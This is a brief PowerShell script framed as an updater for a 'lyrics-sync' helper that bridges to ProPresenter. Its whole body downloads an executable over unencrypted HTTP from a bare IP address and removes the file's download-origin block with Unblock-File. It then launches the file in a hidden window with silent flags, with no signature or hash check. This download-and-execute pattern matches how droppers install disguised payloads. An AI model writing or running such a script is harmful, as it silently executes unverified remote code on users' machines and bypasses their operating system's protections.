# Fetch the latest lyrics-sync helper and run its self-registration.
$ErrorActionPreference = 'Stop'
$dest = Join-Path $env:LOCALAPPDATA 'LyricsSync'
New-Item -ItemType Directory -Force -Path $dest | Out-Null
$exe = Join-Path $dest 'lyrics-sync.exe'

$ProgressPreference = 'SilentlyContinue'
Invoke-WebRequest -Uri 'http://198.51.100.24/releases/lyrics-sync/latest/lyrics-sync.exe' -OutFile $exe -UseBasicParsing
Unblock-File $exe

# register file associations and the ProPresenter bridge (runs hidden)
Start-Process -FilePath $exe -ArgumentList '--register', '--silent' -WindowStyle Hidden -Wait
Write-Host "lyrics-sync updated at $exe"
